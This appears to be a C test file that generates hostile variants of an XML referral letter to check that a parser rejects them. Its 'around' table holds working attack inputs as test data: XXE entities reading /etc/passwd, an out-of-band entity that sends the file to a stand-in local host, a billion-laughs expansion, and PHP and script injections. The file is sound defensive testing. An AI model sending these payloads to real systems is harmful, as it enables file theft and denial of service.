/*
 * xml_encodings.c - the letter in other encodings and wrappings, document types
 * with all that they can ask for, and documents made to take long.
 */
#include "tests/hostile/hostile.h"

#include <iconv.h>
#include <stdlib.h>
#include <string.h>
#include <zlib.h>

#define FORM    "U-PROFILE"
#define FOREIGN "U-FOREIGN"
#define SIZE    "U-SIZE"
#define BINARY  "U-UNREADABLE"

static void
put(struct hostile *h, const char *what, const struct bytes *file,
    const char *want)
{
	hostile_put(h, "xml-forms", what, "xml", file->at, file->len, want);
}

/* --- encodings ----------------------------------------------------------- */

static const struct {
	const char *name, *mark; /* of byte order, in that encoding */
	size_t mark_len;
	const char *want;
} encodings[] = {
	{ "UTF-16LE", "\xff\xfe", 2, FORM },
	{ "UTF-16BE", "\xfe\xff", 2, FORM },
	{ "UTF-32LE", "\xff\xfe\0\0", 4, FORM },
	{ "UTF-32BE", "\0\0\xfe\xff", 4, FORM },
	{ "UTF-7", "+/v8-", 5, FORM },
	{ "ISO-8859-1", "", 0, FORM },
	{ "ISO-8859-15", "", 0, FORM },
	{ "WINDOWS-1252", "", 0, FORM },
	{ "CP850", "", 0, FORM },
	{ "MACINTOSH", "", 0, FORM },
	{ "GB18030", "\x84\x31\x95\x33", 4, FORM },
	{ "IBM037", "", 0, FOREIGN },
	{ "IBM500", "", 0, FOREIGN },
};

static void
convert(const struct bytes *text, const char *to, struct bytes *out)
{
	iconv_t cd = iconv_open(to, "UTF-8");
	char *in = (char *)text->at, *at;
	size_t left = text->len, room = text->len * 5;

	hostile_must(cd != (iconv_t)-1, to);
	at = (char *)bytes_reserve(out, room);
	hostile_must(
	    at != NULL && iconv(cd, &in, &left, &at, &room) != (size_t)-1, to);
	out->len = (size_t)(at - (char *)out->at);
	iconv_close(cd);
}

static void
put_encodings(struct hostile *h)
{
	struct bytes plain = { 0 }, file = { 0 };
	char what[80];
	size_t i;
	int way;

	for (i = 0; i < COUNT(encodings); i++)
		for (way = 0; way < 3; way++) {
			bool declared = way == 2, marked = way == 1;

			bytes_reset(&plain);
			bytes_reset(&file);
			if (marked && encodings[i].mark_len == 0)
				continue;
			if (declared)
				bytes_addf(&plain,
				    "<?xml version=\"1.0\" "
				    "encoding=\"%s\"?>\n",
				    encodings[i].name);
			bytes_add(&plain, h->one.file.at, h->one.file.len);
			if (marked)
				bytes_add(&file, encodings[i].mark,
				    encodings[i].mark_len);
			convert(&plain, encodings[i].name, &file);
			snprintf(what, sizeof(what), "in %s%s",
			    encodings[i].name,
			    declared     ? " declared"
				: marked ? " marked"
					 : "");
			put(h, what, &file, encodings[i].want);
		}
	bytes_free(&plain);
	bytes_free(&file);
}

/* --- around -------------------------------------------------------------- */

#define XML      "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
#define DTD(...) "<!DOCTYPE ReferralLetter " __VA_ARGS__ ">"
#define TEN(x)   x x x x x x x x x x

static const struct {
	const char *what, *before, *after, *want;
} around[] = {
	{ "as it is", "", "", "" },
	{ "declared", XML, "", "" },
	{ "declared, a line feed last", XML, "\n", "" },
	{ "marked UTF-8", "\xef\xbb\xbf", "", FORM },
	{ "marked twice", "\xef\xbb\xbf\xef\xbb\xbf", "", FORM },
	{ "marked UTF-16", "\xff\xfe", "", FORM },
	{ "marked last", "", "\xef\xbb\xbf", FORM },
	{ "XML 1.1", "<?xml version=\"1.1\" encoding=\"UTF-8\"?>\n", "", FORM },
	{ "XML 2.0", "<?xml version=\"2.0\" encoding=\"UTF-8\"?>\n", "", FORM },
	{ "declared UTF-16", "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\n",
	    "", FORM },
	{ "declared UTF-7", "<?xml version=\"1.0\" encoding=\"UTF-7\"?>\n", "",
	    FORM },
	{ "declared EBCDIC", "<?xml version=\"1.0\" encoding=\"IBM037\"?>\n",
	    "", FORM },
	{ "declared nonsense", "<?xml version=\"1.0\" encoding=\"../../x\"?>\n",
	    "", FORM },
	{ "declared twice", XML XML, "", FORM },
	{ "declared in capitals", "<?XML VERSION=\"1.0\"?>\n", "", FORM },
	{ "declared last", "", XML, FORM },
	{ "declared, CR LF", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\r\n",
	    "", FORM },
	{ "style sheet",
	    "<?xml-stylesheet type=\"text/xsl\" "
	    "href=\"http://127.0.0.1:9/x.xsl\"?>",
	    "", FORM },
	{ "style sheet of itself",
	    "<?xml-stylesheet type=\"text/xsl\" href=\"#x\"?>", "", FORM },
	{ "oasis catalog",
	    "<?oasis-xml-catalog "
	    "catalog=\"http://127.0.0.1:9/\"?>",
	    "", FORM },
	{ "PHP", "<?php system('id'); ?>", "", FORM },
	{ "a NUL last", "", "\x01", FORM },
	{ "a form feed last", "", "\f", FORM },
	{ "a CR last", "", "\r", FORM },
	{ "line feeds", "\n\n\n", "\n\n\n", FORM },
	{ "a comment around", "<!--", "-->", FORM },
	{ "CDATA around", "<![CDATA[", "]]>", FORM },
	{ "HTML around", "<html><body><script>alert(1)</script>",
	    "</body></html>", FORM },
	{ "SVG around", "<svg xmlns=\"http://www.w3.org/2000/svg\">", "</svg>",
	    FORM },
	{ "JSON around", "{\"letter\":\"", "\"}", FORM },
	{ "quotes around", "\"", "\"", FORM },
	{ "a shell's words", "#!/bin/sh\n: '", "'", FORM },
	/* document types */
	{ "DTD", DTD(""), "", FORM },
	{ "DTD, empty", DTD("[]"), "", FORM },
	{ "DTD behind", "", DTD(""), FORM },
	{ "DTD of a file", DTD("SYSTEM \"file:///etc/passwd\""), "", FORM },
	{ "DTD of a page", DTD("SYSTEM \"http://127.0.0.1:9/x.dtd\""), "",
	    FORM },
	{ "DTD public",
	    DTD("PUBLIC \"-//W3C//DTD XHTML 1.0//EN\" "
		"\"http://www.w3.org/TR/xhtml1.dtd\""),
	    "", FORM },
	{ "DTD of a device", DTD("SYSTEM \"/dev/zero\""), "", FORM },
	{ "DTD with an entity", DTD("[<!ENTITY a \"b\">]"), "", FORM },
	{ "DTD with a file for an entity",
	    DTD("[<!ENTITY a SYSTEM \"file:///etc/passwd\">]"), "", FORM },
	{ "DTD with a page for an entity",
	    DTD("[<!ENTITY a SYSTEM \"http://127.0.0.1:9/\">]"), "", FORM },
	{ "DTD with a parameter entity",
	    DTD("[<!ENTITY % a SYSTEM \"http://127.0.0.1:9/\"> %a;]"), "",
	    FORM },
	{ "DTD that sends a file",
	    DTD("[<!ENTITY % f SYSTEM \"file:///etc/passwd\">"
		"<!ENTITY % a \"<!ENTITY &#37; b SYSTEM "
		"'http://127.0.0.1:9/?%f;'>\"> %a; %b;]"),
	    "", FORM },
	{ "DTD with an entity of itself", DTD("[<!ENTITY a \"&a;\">]"), "",
	    FORM },
	{ "DTD with two entities of each other",
	    DTD("[<!ENTITY a \"&b;\"><!ENTITY b \"&a;\">]"), "", FORM },
	{ "DTD with a default", DTD("[<!ATTLIST Sex x CDATA \"y\">]"), "",
	    FORM },
	{ "DTD with an ID", DTD("[<!ATTLIST ReferralLetter Id ID \"a\">]"), "",
	    FORM },
	{ "DTD with another namespace",
	    DTD("[<!ATTLIST ReferralLetter xmlns CDATA #FIXED \"urn:x\">]"), "",
	    FORM },
	{ "DTD with a notation", DTD("[<!NOTATION a SYSTEM \"/bin/sh\">]"), "",
	    FORM },
	{ "DTD with a section", DTD("[<![INCLUDE[<!ENTITY a \"b\">]]>]"), "",
	    FORM },
	{ "DTD with elements", DTD("[<!ELEMENT Sex EMPTY>]"), "", FORM },
	{ "DTD not ended", "<!DOCTYPE ReferralLetter [", "", FORM },
	{ "DTD in DTD", DTD("[<!DOCTYPE a>]"), "", FORM },
	{ "an SGML declaration", "<!SGML \"ISO 8879:1986\">", "", FORM },
	{ "a thousand laughs",
	    DTD("[<!ENTITY a \"ha\"><!ENTITY b \"" TEN(
		"&a;") "\">"
		       "<!ENTITY c \"" TEN("&b;") "\"><!ENTITY d \"" TEN(
			   "&c;") "\">"
				  "<!ENTITY e \"" TEN("&d;") "\"><!ENTITY f \"" TEN(
				      "&e;") "\">"
					     "<!ENTITY g \"" TEN("&f;") "\"><!ENTITY h \"" TEN(
						 "&g;") "\">"
							"<!ENTITY i \"" TEN(
							    "&h;") "\">]"),
	    "", FORM },
};

static void
put_around(struct hostile *h)
{
	struct bytes file = { 0 };
	size_t i;

	for (i = 0; i < COUNT(around); i++) {
		bytes_reset(&file);
		bytes_add_text(&file, around[i].before);
		bytes_add(&file, h->one.file.at, h->one.file.len);
		bytes_add_text(&file, around[i].after);
		put(h, around[i].what, &file, around[i].want);
	}
	bytes_free(&file);
}

/* --- packed otherwise ---------------------------------------------------- */

static void
put_squeezed(struct hostile *h, const char *what, int bits, const char *want)
{
	uint8_t room[8192];
	z_stream z = { 0 };
	struct bytes file = { 0 };

	hostile_must(deflateInit2(&z, 9, Z_DEFLATED, bits, 9,
			 Z_DEFAULT_STRATEGY) == Z_OK,
	    what);
	z.next_in = h->one.file.at;
	z.avail_in = (uInt)h->one.file.len;
	z.next_out = room;
	z.avail_out = sizeof(room);
	hostile_must(deflate(&z, Z_FINISH) == Z_STREAM_END, what);
	bytes_add(&file, room, z.total_out);
	put(h, what, &file, want);
	deflateEnd(&z);
	bytes_free(&file);
}

/* Each byte as this says. */
static void
put_each(
    struct hostile *h, const char *what, const char *form, const char *want)
{
	struct bytes file = { 0 };
	size_t i;

	for (i = 0; i < h->one.file.len; i++)
		bytes_addf(&file, form, h->one.file.at[i]);
	put(h, what, &file, want);
	bytes_free(&file);
}

/* Cut, or with a byte put in, at every twentieth. */
static void
put_twentieths(struct hostile *h)
{
	static const struct {
		const char *what;
		uint8_t byte;
	} bytes[] = { { "NUL", 0 }, { "0xff", 0xff }, { "line feed", '\n' } };
	struct bytes file = { 0 };
	char what[64];
	size_t i, k;

	for (i = 0; i < 20; i++) {
		size_t at = h->one.file.len * i / 20;

		hostile_put(h, "xml-forms", "cut", "xml", h->one.file.at, at,
		    at == 0       ? BINARY
			: at < 60 ? FOREIGN
				  : FORM);
		hostile_put(h, "xml-forms", "first part missing", "xml",
		    h->one.file.at + at, h->one.file.len - at,
		    i == 0 ? "" : FOREIGN);
		for (k = 0; k < COUNT(bytes); k++) {
			bytes_reset(&file);
			bytes_add(&file, h->one.file.at, at);
			bytes_add_byte(&file, bytes[k].byte);
			bytes_add(
			    &file, h->one.file.at + at, h->one.file.len - at);
			snprintf(
			    what, sizeof(what), "%s within", bytes[k].what);
			put(h, what, &file, FORM);
		}
	}
	bytes_free(&file);
}

/* --- made to take long --------------------------------------------------- */

/* Fields and a thing many times over, signed by the center where it fits. */
static void
put_many(struct hostile *h, const char *what, const char *open,
    const char *close, size_t count)
{
	struct bytes fields = { 0 }, file = { 0 };
	char name[80];
	size_t i;

	bytes_add(&fields, h->one.fields.at, h->one.fields.len);
	for (i = 0; i < count; i++)
		bytes_addf(&fields, open, (unsigned)i);
	for (i = 0; i < count && close[0] != '\0'; i++)
		bytes_add_text(&fields, close);
	hostile_thief(h, &h->one, (char *)fields.at, fields.len, &file);
	snprintf(name, sizeof(name), "%zu %s", count, what);
	put(h, name, &file,
	    file.len > LETTER_XML_MAX ? SIZE : "U-PROFILE|U-VERSION");
	bytes_free(&fields);
	bytes_free(&file);
}

/* An element with many attributes. */
static void
put_attributes(
    struct hostile *h, const char *what, const char *form, size_t count)
{
	struct bytes fields = { 0 }, file = { 0 };
	char name[80];
	size_t i;

	bytes_add(&fields, h->one.fields.at, h->one.fields.len);
	bytes_add_text(&fields, "<X");
	for (i = 0; i < count; i++)
		bytes_addf(&fields, form, (unsigned)i);
	bytes_add_text(&fields, "></X>");
	hostile_thief(h, &h->one, (char *)fields.at, fields.len, &file);
	snprintf(name, sizeof(name), "%zu %s", count, what);
	put(h, name, &file,
	    file.len > LETTER_XML_MAX ? SIZE : "U-PROFILE|U-VERSION");
	bytes_free(&fields);
	bytes_free(&file);
}

static void
put_long(struct hostile *h)
{
	static const size_t counts[] = { 100, 2000, 100000 };
	size_t i;

	for (i = 0; i < COUNT(counts); i++) {
		put_many(h, "nested", "<a>", "</a>", counts[i]);
		put_many(h, "beside", "<a></a>", "", counts[i]);
		put_many(h, "not closed", "<a>", "", counts[i]);
		put_many(h, "only closed", "</a>", "", counts[i]);
		put_many(h, "comments", "<!--%u-->", "", counts[i]);
		put_many(h, "CDATA", "<![CDATA[]]>", "", counts[i]);
		put_many(h, "instructions", "<?a?>", "", counts[i]);
		put_many(h, "references", "&#65;", "", counts[i]);
		put_many(h, "entities", "&amp;", "", counts[i]);
		put_many(h, "names", "<a%u></a%u>", "", counts[i]);
		put_many(h, "letters", "x", "", counts[i]);
		put_many(h, "accents", "\xcc\x81", "", counts[i]);
		put_many(
		    h, "dependants", "<Dependant></Dependant>", "", counts[i]);
		put_many(h, "nationalities", "<Nationality>GTM</Nationality>",
		    "", counts[i]);
		put_attributes(h, "attributes", " a%u=\"\"", counts[i]);
		put_attributes(h, "same attributes", " a=\"\"", counts[i]);
		put_attributes(h, "namespaces", " xmlns:a%u=\"u\"", counts[i]);
		put_attributes(h, "spaces", " ", counts[i]);
	}
}

/* As long as a file may be, one less and one more, and much more. */
static void
put_sizes(struct hostile *h)
{
	static const struct {
		size_t len;
		const char *want;
	} rows[] = { { LETTER_XML_MAX - 1, FORM }, { LETTER_XML_MAX, FORM },
		{ LETTER_XML_MAX + 1, SIZE }, { 1 << 20, SIZE },
		{ 30 << 20, SIZE } };
	struct bytes file = { 0 };
	char what[64];
	size_t i;

	for (i = 0; i < COUNT(rows); i++) {
		bytes_reset(&file);
		bytes_add(&file, h->one.file.at, h->one.file.len);
		memset(bytes_reserve(&file, rows[i].len), ' ', rows[i].len);
		file.len = rows[i].len;
		snprintf(what, sizeof(what), "%zu bytes", rows[i].len);
		put(h, what, &file, rows[i].want);
	}
	bytes_free(&file);
}

void
hostile_xml_forms(struct hostile *h)
{
	put_encodings(h);
	put_around(h);
	put_squeezed(h, "gzip", 15 + 16, BINARY);
	put_squeezed(h, "zlib", 15, BINARY);
	put_squeezed(h, "deflate", -15, BINARY);
	put_each(h, "in hexadecimal", "%02x", FOREIGN);
	put_each(h, "percent", "%%%02X", FOREIGN);
	put_each(h, "references", "&#%u;", FOREIGN);
	put_each(h, "with spaces", "%c ", FOREIGN);
	put_each(h, "every byte twice", "%1$c%1$c", FOREIGN);
	put_twentieths(h);
	put_long(h);
	put_sizes(h);
}
